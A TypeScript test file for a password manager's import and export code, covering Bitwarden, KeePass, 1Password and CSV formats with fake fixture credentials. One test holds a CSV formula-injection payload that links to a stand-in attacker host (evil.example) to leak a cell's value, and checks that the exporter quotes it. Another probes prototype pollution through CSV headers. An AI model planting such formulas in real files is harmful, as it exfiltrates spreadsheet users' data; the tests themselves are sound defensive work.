/**
 * Import formats and exports (sdk/transfer/), read and written without a server: Bitwarden's JSON
 * and CSV (files in the form Bitwarden writes them), a generic CSV (written with papaparse), a
 * KeePass KDBX 4 database (made here with kdbxweb, the library KeeWeb uses, with Argon2id), and
 * this service's exports: the encrypted one round trip, with a wrong passphrase, a changed byte and
 * a weak key derivation refused.
 */
import { FAST_KDF } from "./transfer/real-files";
import { createCipheriv, createHash, createHmac, pbkdf2Sync, randomBytes, randomUUID } from "node:crypto";
import fs from "node:fs";
import { argon2id } from "hash-wasm";
import path from "node:path";
import Papa from "papaparse";
import { strToU8, zipSync } from "fflate";
import { keepassFile } from "../../helpers/keepass";
import { exportCsv, exportEncrypted, exportJson, ImportError, readImport, type ExportedVault } from "../../../sdk/transfer";
import type { ItemContent } from "../../../sdk";

const fixture = (name: string) => new Uint8Array(fs.readFileSync(path.join(__dirname, "../../fixtures/import", name)));
const bytes = (text: string) => new TextEncoder().encode(text);
const names = (items: ItemContent[]) => items.map((i) => i.name);

test("Bitwarden JSON: each type as it holds it; what this service has no place for is skipped with the reason", async () => {
  const parsed = await readImport(fixture("bitwarden.json"));
  expect(parsed.format).toBe("bitwarden-json");
  expect(names(parsed.items)).toEqual(["GitHub", "Wi-Fi", "Visa", "Me", "deploy key"]);
  expect(parsed.items[0]).toEqual({
    name: "GitHub",
    type: "login",
    fields: { username: "ada", password: "correct-horse", notes: "Recovery codes in the safe.\nRotate every spring." },
    urls: [
      { url: "https://github.com/login", match: "domain" },
      { url: "https://gist.github.com", match: "host" },
      { url: "^https://.*\\.github\\.com", match: "never" },
    ],
    totp: "otpauth://totp/GitHub:ada?secret=JBSWY3DPEHPK3PXP&issuer=GitHub",
    custom: [
      { name: "team", value: "core", hidden: false },
      { name: "pin", value: "1234", hidden: true },
    ],
    favorite: true,
    tags: ["Work"],
    place: "Work",
  });
  expect(parsed.items[2]).toMatchObject({
    type: "card",
    fields: { cardholder: "Ada Lovelace", number: "4111111111111111", expiry: "07/29", code: "123" },
  });
  expect(parsed.items[3]).toMatchObject({
    type: "identity",
    fields: { fullName: "Mrs Ada Lovelace", email: "ada@example.test", address: "12 St James's Square\nSW1Y 4JH London\nGB" },
  });
  expect(parsed.items[3]!.custom).toContainEqual({ name: "passportNumber", value: "123456789", hidden: true });
  expect(parsed.items[4]).toMatchObject({ type: "ssh", fields: { publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG" } });
  expect(parsed.skipped).toEqual([{ name: "From the future", why: "a Bitwarden item type this service does not have (9)" }]);
});

/**
 * A password-protected Bitwarden export, made here with node:crypto as Bitwarden's clients make one:
 * the key from the password (PBKDF2-SHA256 over the salt, or Argon2id over its SHA-256), stretched
 * with HKDF-Expand into an AES-256-CBC key and an HMAC-SHA256 key, each string `2.iv|data|mac`.
 */
async function bitwardenProtected(plain: string, password: string, kdf: "pbkdf2" | "argon2id") {
  const salt = randomBytes(16).toString("base64");
  const key =
    kdf === "pbkdf2"
      ? pbkdf2Sync(password, salt, 600_000, 32, "sha256")
      : Buffer.from(
          await argon2id({
            password,
            salt: createHash("sha256").update(salt).digest(),
            iterations: 3,
            memorySize: 64 * 1024,
            parallelism: 4,
            hashLength: 32,
            outputType: "binary",
          }),
        );
  const expandOne = (info: string) =>
    createHmac("sha256", key)
      .update(Buffer.concat([Buffer.from(info), Buffer.from([1])]))
      .digest();
  const [enc, mac] = [expandOne("enc"), expandOne("mac")];
  const encString = (text: string) => {
    const iv = randomBytes(16);
    const c = createCipheriv("aes-256-cbc", enc, iv);
    const ct = Buffer.concat([c.update(text, "utf8"), c.final()]);
    const tag = createHmac("sha256", mac)
      .update(Buffer.concat([iv, ct]))
      .digest();
    return `2.${iv.toString("base64")}|${ct.toString("base64")}|${tag.toString("base64")}`;
  };
  return JSON.stringify({
    encrypted: true,
    passwordProtected: true,
    salt,
    kdfType: kdf === "pbkdf2" ? 0 : 1,
    kdfIterations: kdf === "pbkdf2" ? 600_000 : 3,
    ...(kdf === "argon2id" && { kdfMemory: 64, kdfParallelism: 4 }),
    encKeyValidation_DO_NOT_EDIT: encString(randomUUID()),
    data: encString(plain),
  });
}

test.each(["pbkdf2", "argon2id"] as const)(
  "a password-protected Bitwarden export (%s) opens with its password, as the plain one; a wrong password or a changed byte is refused",
  async (kdf) => {
    const plain = new TextDecoder().decode(fixture("bitwarden.json"));
    const file = await bitwardenProtected(plain, "bw export password", kdf);
    const parsed = await readImport(bytes(file), { password: "bw export password" });
    expect(parsed).toEqual(await readImport(bytes(plain)));
    await expect(readImport(bytes(file), { password: "wrong" })).rejects.toThrow(
      "the password is wrong, or the Bitwarden export was altered",
    );
    const doc = JSON.parse(file);
    const parts = doc.data.split("|");
    const ct = Buffer.from(parts[1], "base64");
    ct[3]! ^= 1;
    await expect(
      readImport(bytes(JSON.stringify({ ...doc, data: [parts[0], ct.toString("base64"), parts[2]].join("|") })), {
        password: "bw export password",
      }),
    ).rejects.toThrow("altered");
    await expect(readImport(bytes(file))).rejects.toThrow("give its password");
  },
);

test("a Bitwarden export encrypted with an account's key, or asking for an extreme cost, is refused with what to do", async () => {
  await expect(readImport(bytes(JSON.stringify({ encrypted: true, data: "2.x|y|z" })), { password: "p" })).rejects.toThrow(
    "export it again with a password",
  );
  await expect(
    readImport(
      bytes(JSON.stringify({ encrypted: true, passwordProtected: true, salt: "s", kdfType: 0, kdfIterations: 1e12, data: "2.a|b|c" })),
      { password: "p" },
    ),
  ).rejects.toThrow("at most 2000000");
});

test("Bitwarden CSV: logins and notes, several websites, custom fields; other types skipped", async () => {
  const parsed = await readImport(fixture("bitwarden.csv"));
  expect(parsed.format).toBe("bitwarden-csv");
  expect(parsed.items).toEqual([
    {
      name: "GitLab",
      type: "login",
      fields: { username: "ada", password: "pw1", notes: "two\nlines" },
      urls: [
        { url: "https://gitlab.com", match: "domain" },
        { url: "https://about.gitlab.com", match: "domain" },
      ],
      totp: "JBSWY3DPEHPK3PXP",
      custom: [
        { name: "team", value: "core", hidden: false },
        { name: "pin", value: "1234", hidden: false },
      ],
      favorite: true,
      tags: ["Work"],
      place: "Work",
    },
    { name: "Door code", type: "note", fields: { notes: "1234#" } },
  ]);
  expect(parsed.skipped).toEqual([{ name: "Not in Bitwarden's CSV", why: "a Bitwarden CSV type this service does not read (card)" }]);
});

test("a generic CSV (columns in any case and order; other columns become custom fields; a row without a name is skipped)", async () => {
  const csv = Papa.unparse([
    {
      Title: "Bank",
      "User Name": "ada.l",
      Password: "s3cret",
      Website: "bank.example",
      Notes: "branch: Soho",
      PIN: "0000",
      Group: "Money",
    },
    { Title: "", "User Name": "nobody", Password: "x", Website: "", Notes: "", PIN: "", Group: "" },
  ]);
  const parsed = await readImport(bytes(csv));
  expect(parsed.format).toBe("csv");
  expect(parsed.items).toEqual([
    {
      name: "Bank",
      type: "login",
      fields: { username: "ada.l", password: "s3cret", notes: "branch: Soho" },
      urls: [{ url: "bank.example", match: "domain" }],
      custom: [{ name: "pin", value: "0000", hidden: false }],
    },
  ]);
  expect(parsed.skipped).toEqual([{ name: "(no name)", why: "it has no name" }]);
});

test("a KeePass KDBX 4 database (Argon2id): every entry outside the recycle bin, protected fields hidden, KeePassXC's TOTP; the wrong password refused", async () => {
  const file = await keepassFile("kp-pass");
  const parsed = await readImport(file, { password: "kp-pass" });
  expect(parsed.format).toBe("keepass");
  expect(names(parsed.items).sort()).toEqual(["db1", "scan"]);
  expect(parsed.items.find((i) => i.name === "db1")).toEqual({
    name: "db1",
    type: "login",
    fields: { username: "postgres", password: "p0stgres!", notes: "primary\nreplica on db2" },
    urls: [{ url: "https://db1.example", match: "domain" }],
    totp: "otpauth://totp/db1?secret=JBSWY3DPEHPK3PXP",
    custom: expect.arrayContaining([
      { name: "Root PIN", value: "9999", hidden: true },
      { name: "Rack", value: "B4", hidden: false },
    ]),
    tags: ["Servers"],
    place: "Servers",
  });
  expect(parsed.partial).toEqual([]);
  expect(parsed.items.find((i) => i.name === "scan")!.files).toEqual([{ name: "passport.pdf", data: bytes("%PDF-1.4") }]);
  expect(parsed.skipped).toEqual([{ name: "old", why: "it is in KeePass's recycle bin" }]);
  await expect(readImport(file, { password: "wrong" })).rejects.toThrow(ImportError);
  await expect(readImport(file)).rejects.toThrow("give its password");
});

/** A 1PUX file as 1Password writes one (a zip of export.attributes and export.data), built with fflate. */
function onePux(items: unknown[]): Uint8Array {
  const data = {
    accounts: [{ attrs: { accountName: "Acme", name: "Acme" }, vaults: [{ attrs: { uuid: "v1", name: "Private" }, items }] }],
  };
  return zipSync({
    "export.attributes": strToU8(JSON.stringify({ version: 3, description: "1Password Unencrypted Export", createdAt: 1700000000 })),
    "export.data": strToU8(JSON.stringify(data)),
    "files/": new Uint8Array(0),
  });
}

test("1Password 1PUX: logins with their websites and one-time code, a card, an SSH key, other categories as notes with their fields; documents skipped", async () => {
  const file = onePux([
    {
      uuid: "a",
      favIndex: 1,
      categoryUuid: "001",
      state: "active",
      overview: {
        title: "GitHub",
        url: "https://github.com",
        urls: [
          { label: "", url: "https://github.com" },
          { label: "gist", url: "https://gist.github.com" },
        ],
      },
      details: {
        loginFields: [
          { value: "ada", name: "username", fieldType: "T", designation: "username" },
          { value: "correct-horse", name: "password", fieldType: "P", designation: "password" },
        ],
        notesPlain: "two\nlines",
        sections: [
          {
            title: "",
            fields: [{ title: "one-time password", id: "TOTP_1", value: { totp: "otpauth://totp/GitHub:ada?secret=JBSWY3DPEHPK3PXP" } }],
          },
          {
            title: "extra",
            fields: [
              { title: "PIN", id: "pin", value: { concealed: "1234" } },
              { title: "team", id: "t", value: { string: "core" } },
            ],
          },
        ],
      },
    },
    {
      uuid: "b",
      categoryUuid: "002",
      overview: { title: "Visa" },
      details: {
        sections: [
          {
            fields: [
              { title: "cardholder name", id: "cardholder", value: { string: "Ada Lovelace" } },
              { title: "number", id: "ccnum", value: { creditCardNumber: "4111111111111111" } },
              { title: "verification number", id: "cvv", value: { concealed: "123" } },
              { title: "expiry date", id: "expiry", value: { monthYear: 202907 } },
            ],
          },
        ],
      },
    },
    {
      uuid: "c",
      categoryUuid: "114",
      overview: { title: "deploy" },
      details: {
        sections: [
          {
            fields: [
              {
                title: "private key",
                id: "pk",
                value: { sshKey: { privateKey: "-----BEGIN-----\nAAA\n-----END-----", metadata: { publicKey: "ssh-ed25519 AAAA" } } },
              },
            ],
          },
        ],
      },
    },
    {
      uuid: "d",
      categoryUuid: "110",
      overview: { title: "db server" },
      details: {
        sections: [
          {
            fields: [
              { title: "URL", id: "url", value: { string: "db.internal" } },
              { title: "admin password", id: "pw", value: { concealed: "s3" } },
            ],
          },
        ],
      },
    },
    { uuid: "e", categoryUuid: "006", overview: { title: "passport scan" }, details: {} },
  ]);
  const parsed = await readImport(file);
  expect(parsed.format).toBe("1password");
  // Each item tagged with its vault's name, its place.
  expect(parsed.items.map((i) => [i.tags, i.place])).toEqual(parsed.items.map(() => [["Private"], "Private"]));
  expect(parsed.items.map(({ tags: _t, place: _p, ...i }) => i)).toEqual([
    {
      name: "GitHub",
      type: "login",
      fields: { username: "ada", password: "correct-horse", notes: "two\nlines" },
      urls: [
        { url: "https://github.com", match: "domain" },
        { url: "https://gist.github.com", match: "domain" },
      ],
      totp: "otpauth://totp/GitHub:ada?secret=JBSWY3DPEHPK3PXP",
      custom: [
        { name: "PIN", value: "1234", hidden: true },
        { name: "team", value: "core", hidden: false },
      ],
      favorite: true,
    },
    { name: "Visa", type: "card", fields: { cardholder: "Ada Lovelace", number: "4111111111111111", code: "123", expiry: "07/29" } },
    { name: "deploy", type: "ssh", fields: { privateKey: "-----BEGIN-----\nAAA\n-----END-----", publicKey: "ssh-ed25519 AAAA" } },
    {
      name: "db server",
      type: "note",
      fields: {},
      custom: [
        { name: "URL", value: "db.internal", hidden: false },
        { name: "admin password", value: "s3", hidden: true },
      ],
    },
  ]);
  expect(parsed.skipped).toEqual([{ name: "passport scan", why: "a 1Password document (a file): not imported" }]);
  await expect(readImport(zipSync({ "other.txt": strToU8("x") }))).rejects.toThrow("no export.data");
});

const vaults: ExportedVault[] = [
  {
    name: "Team",
    items: [
      {
        name: "GitHub",
        type: "login",
        fields: { username: "ada", password: "pw" },
        urls: [{ url: "https://github.com", match: "host" }],
        totp: "JBSWY3DPEHPK3PXP",
      },
      {
        name: "Visa",
        type: "card",
        fields: { number: "4111" },
        custom: [{ name: "brand", value: "Visa", hidden: false }],
        favorite: true,
      },
    ],
  },
];

test("the encrypted export reads back as it was; a wrong passphrase, a changed byte or a weak key derivation is refused", async () => {
  const file = await exportEncrypted(vaults, "export passphrase", FAST_KDF);
  expect(file).not.toContain("GitHub");
  const back = await readImport(bytes(file), { password: "export passphrase" });
  expect(back).toEqual({ format: "vault-export", items: vaults[0]!.items, partial: [], skipped: [] });
  await expect(readImport(bytes(file), { password: "wrong" })).rejects.toThrow("the passphrase is wrong, or the export was altered");
  const doc = JSON.parse(file);
  const changed = Buffer.from(doc.ciphertext, "base64");
  changed[20]! ^= 1;
  await expect(
    readImport(bytes(JSON.stringify({ ...doc, ciphertext: changed.toString("base64") })), { password: "export passphrase" }),
  ).rejects.toThrow("altered");
  await expect(
    readImport(bytes(JSON.stringify({ ...doc, kdf: { ...doc.kdf, memoryKiB: 1024 } })), { password: "export passphrase" }),
  ).rejects.toThrow("key derivation is not one this client accepts");
  await expect(readImport(bytes(file))).rejects.toThrow("give its passphrase");
});

test("a CSV export quotes what a spreadsheet would run as a formula, and reads back as it was; a multi-line field stays whole", async () => {
  const tricky: ExportedVault[] = [
    {
      name: "Team",
      items: [
        {
          name: '=HYPERLINK("https://evil.example/?"&E2,"Click")',
          type: "login",
          fields: { username: "@ada", password: "-starts-with-minus" },
        },
        { name: "deploy", type: "ssh", fields: { privateKey: "-----BEGIN KEY-----\nAAAA\nBBBB\n-----END KEY-----" } },
      ],
    },
  ];
  const csv = exportCsv(tricky);
  expect(csv).toContain(`"'=HYPERLINK(`);
  expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  const back = await readImport(bytes(csv));
  expect(back.items[0]).toMatchObject({ name: tricky[0]!.items[0]!.name, fields: { username: "@ada", password: "-starts-with-minus" } });
  expect(back.items[1]!.custom).toEqual([
    { name: "privateKey", value: "-----BEGIN KEY-----\nAAAA\nBBBB\n-----END KEY-----", hidden: false },
  ]);
});

test("a CSV header named like an object's own properties (__proto__, constructor) does not break the import", async () => {
  const parsed = await readImport(bytes("name,__proto__,constructor\nBank,x,y\n"));
  expect(parsed.items.map((i) => i.name)).toEqual(["Bank"]);
  expect(Object.getPrototypeOf(parsed.items[0]!.fields)).toBe(Object.prototype);
  expect(({} as Record<string, unknown>).x).toBeUndefined();
});

test("the plaintext exports read back: JSON exactly, CSV as a CSV", async () => {
  expect((await readImport(bytes(exportJson(vaults)))).items).toEqual(vaults[0]!.items);
  const csv = exportCsv(vaults);
  const back = await readImport(bytes(csv));
  expect(back.items).toEqual([
    {
      name: "GitHub",
      type: "login",
      fields: { username: "ada", password: "pw" },
      urls: [{ url: "https://github.com", match: "domain" }],
      totp: "JBSWY3DPEHPK3PXP",
    },
    {
      name: "Visa",
      type: "card",
      fields: {},
      custom: [
        { name: "number", value: "4111", hidden: false },
        { name: "brand", value: "Visa", hidden: false },
      ],
      favorite: true,
    },
  ]);
});
